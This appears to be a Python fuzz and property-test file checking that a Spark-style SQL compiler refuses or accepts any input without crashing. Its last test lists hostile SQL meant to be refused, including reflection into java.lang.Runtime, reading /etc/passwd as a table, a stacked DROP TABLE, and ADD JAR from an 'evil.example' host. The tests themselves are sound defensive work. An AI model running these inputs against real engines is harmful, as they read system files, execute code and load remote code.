"""The SQL front end takes any text: it refuses or accepts, and never fails, hangs or lets something through."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from service.contract.job import JobSpec
from service.contract.problems import SpecError
from service.sql.compile import compile_job
from service.sql.ddl import parse_schema
from tests.support.counts import count

pytestmark = pytest.mark.slow

SCHEMAS = {
    "t": parse_schema("a BIGINT, b STRING, c DOUBLE, d DECIMAL(10,2), e TIMESTAMP, f BOOLEAN, g BINARY", ""),
    "u": parse_schema("a BIGINT, b STRING, `odd name` INT", ""),
}

ACCEPTED = (
    "SELECT a, COUNT(DISTINCT b) AS n FROM t GROUP BY a HAVING COUNT(*) > 1 ORDER BY n DESC LIMIT 10",
    "SELECT t.a, SUM(u.`odd name`) AS s FROM t LEFT JOIN u ON t.a = u.a AND t.b = u.b WHERE t.c > 1.5e3 GROUP BY t.a",
    "WITH w AS (SELECT a, MAX(e) AS m FROM t GROUP BY a) SELECT w.m, COUNT(*) AS n FROM w JOIN u ON w.a = u.a "
    "GROUP BY w.m",
    "SELECT CASE WHEN f THEN upper(b) ELSE 'x' END AS k, AVG(d) AS m FROM t WHERE b LIKE '%x%' GROUP BY 1",
    "SELECT a FROM t UNION ALL SELECT a FROM u",
    "SELECT COUNT(*) FILTER (WHERE a IN (1, 2, 3)) AS n, CAST(SUM(c) AS INT) AS s FROM t WHERE e > DATE '2020-01-01'",
)
VOCABULARY = r"""
SELECT FROM WHERE GROUP BY HAVING ORDER LIMIT JOIN LEFT FULL ON USING AS AND OR NOT IN IS NULL LIKE RLIKE BETWEEN CASE
WHEN THEN ELSE END CAST DISTINCT UNION ALL EXISTS WITH OVER PARTITION LATERAL VIEW VALUES INTERVAL DATE TIMESTAMP TRUE
FALSE COUNT SUM AVG MIN MAX FILTER TABLE TRANSFORM INSERT DROP reflect java_method input_file_name explode upper
substring concat coalesce parquet csv t u a b c d e f ( ) , . ; * + - / % = < > <> <= >= || ` ' " [ ] { } : :: -> => @ #
$ ? ! ~ ^ & | \ -- /* */
"""
WORDS = (
    *VOCABULARY.split(),
    "'x'",
    '"x"',
    "`odd name`",
    "parquet.`/etc/passwd`",
    "1",
    "1.5e308",
    "0x1F",
    "X'00'",
    "9" * 60,
    "${env:HOME}",
    "\u202e",
    "\u0000",
    "é",
    "🙂",
)


def outcome(text: str) -> str:
    """`accepted`, or the code of the refusal; whatever else is raised fails the test."""
    try:
        spec = JobSpec.model_validate(
            {"tables": {name: {"format": "parquet", "path": "x/"} for name in SCHEMAS}, "sql": text}
        )
        compile_job(spec, SCHEMAS)
    except SpecError as error:
        return error.issues[0].code
    except ValueError:
        # Of pydantic, before any of it is looked at: too long, or empty.
        return "invalid"
    return "accepted"


@st.composite
def mutated(draw: st.DrawFn) -> str:
    """A query that is accepted, with some of its words replaced, doubled, left out or put elsewhere."""
    words = draw(st.sampled_from(ACCEPTED)).split(" ")
    for _ in range(draw(st.integers(1, 6))):
        place = draw(st.integers(0, len(words)))
        match draw(st.sampled_from(("insert", "drop", "replace", "move", "repeat"))):
            case "insert":
                words.insert(place, draw(st.sampled_from(WORDS)))
            case "drop":
                del words[place : place + 1]
            case "replace":
                words[place : place + 1] = [draw(st.sampled_from(WORDS))]
            case "move" if words:
                words.insert(place, words.pop(draw(st.integers(0, len(words) - 1))))
            case _:
                words[place:place] = words[place : place + 4] * draw(st.integers(1, 20))
    return " ".join(words)


@pytest.mark.parametrize("text", ACCEPTED)
def test_what_is_mutated_is_accepted_as_it_is(text: str) -> None:
    assert outcome(text) == "accepted"


@pytest.mark.withstands(
    "SQL by chance",
    kind="attack",
    how="accepted queries with words replaced, doubled and moved, heaps of words, and any text; found by hypothesis",
    times=3000,
    guaranteed="each is refused with a code, or accepted",
)
@settings(max_examples=count(sample=300, full=1000))
@given(mutated())
def test_a_query_that_is_nearly_right(text: str) -> None:
    outcome(text)


@settings(max_examples=count(sample=300, full=1000))
@given(st.lists(st.sampled_from(WORDS), max_size=60).map(" ".join))
def test_a_heap_of_words(text: str) -> None:
    outcome(text)


@settings(max_examples=count(sample=300, full=1000))
@given(st.text(max_size=300))
@example("SELECT " + "(" * 50_000)
@example("SELECT " + "-" * 99_000 + "1")
@example("SELECT " + "NOT " * 20_000 + "TRUE")
@example("SELECT " + "1+" * 40_000 + "1")
@example("SELECT CASE " * 8_000)
@example("SELECT a FROM t WHERE a IN (" + ",".join("1" for _ in range(45_000)) + ")")
@example("SELECT '" + "\\" * 99_000)
@example("/*" * 49_000)
@example("SELECT " + "a." * 40_000 + "a FROM t")
@example("SELECT a FROM " + "(SELECT a FROM " * 6_000)
@example("SELECT `" + "`" * 99_000)
@example("WITH " + ",".join(f"w{n} AS (SELECT a FROM t)" for n in range(3_000)) + " SELECT a FROM t")
@example("SELECT " + ",".join(f"a AS c{n}" for n in range(8_000)) + " FROM t")
def test_any_text(text: str) -> None:
    outcome(text)


@pytest.mark.withstands(
    "code, files and secrets through SQL",
    kind="attack",
    how="`reflect`, `java_method`, TRANSFORM, files as tables, subqueries in expressions and the like",
    times=23,
    guaranteed="refused before anything is planned",
)
@pytest.mark.parametrize(
    "text",
    [
        "SELECT reflect('java.lang.Runtime', 'getRuntime') AS x FROM t",
        "SELECT java_method('java.lang.System', 'getenv', 'HOME') AS x FROM t",
        "SELECT try_reflect('java.lang.System', 'exit', 1) AS x FROM t",
        "SELECT TRANSFORM (a) USING 'cat /etc/passwd' AS x FROM t",
        "SELECT * FROM parquet.`/etc/passwd`",
        "SELECT * FROM csv.`file:///etc/passwd`",
        "SELECT * FROM text.`/etc/passwd`",
        "SELECT * FROM read_files('/etc/passwd')",
        "SELECT * FROM jdbc",
        "SELECT (SELECT MAX(a) FROM u) AS x FROM t",
        "SELECT a FROM t WHERE a IN (SELECT a FROM u)",
        "SELECT a FROM t WHERE EXISTS (SELECT 1 FROM u)",
        "SELECT input_file_name() AS x FROM t",
        "SELECT current_user() AS x FROM t",
        "SELECT version() AS x FROM t",
        "SELECT uuid() AS x FROM t",
        "SELECT assert_true(false) AS x FROM t",
        "SELECT raise_error('x') AS x FROM t",
        "SELECT ai_query('x') AS x FROM t",
        "SELECT a FROM t; DROP TABLE t",
        "INSERT OVERWRITE DIRECTORY '/tmp/x' SELECT a FROM t",
        "SET spark.sql.extensions=evil",
        "ADD JAR 'http://evil.example/x.jar'",
    ],
)
def test_what_would_reach_further_is_refused(text: str) -> None:
    assert outcome(text) not in {"accepted", "invalid"}
